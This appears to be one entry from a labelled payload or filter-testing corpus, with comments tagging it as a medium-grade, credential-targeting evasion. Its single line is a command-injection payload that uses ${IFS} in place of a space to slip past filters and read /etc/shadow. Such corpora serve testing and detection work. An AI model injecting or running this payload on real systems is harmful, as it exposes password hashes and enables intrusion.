# evasion: ${IFS} between command and argument
# grade: medium; does: credentials
cat${IFS}/etc/shadow
